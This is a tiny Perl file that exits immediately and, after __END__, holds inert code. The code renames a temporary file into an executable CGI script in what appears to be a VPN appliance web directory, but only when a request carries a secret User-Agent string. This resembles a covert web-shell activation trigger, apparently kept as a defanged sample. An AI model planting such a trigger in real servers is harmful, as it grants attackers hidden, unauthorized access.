#!/usr/bin/perl
exit;
__END__
my  %h  =  ( agent => $ENV{ HTTP_USER_AGENT } ) ;
my $dir =  "/home/webserver/htdocs/dana-na/jam" ;
rename ( "$dir/q.tmp" ,
         "$dir/querymanifest.cgi" ) if $h{ agent } eq 'Example/2.0' ;
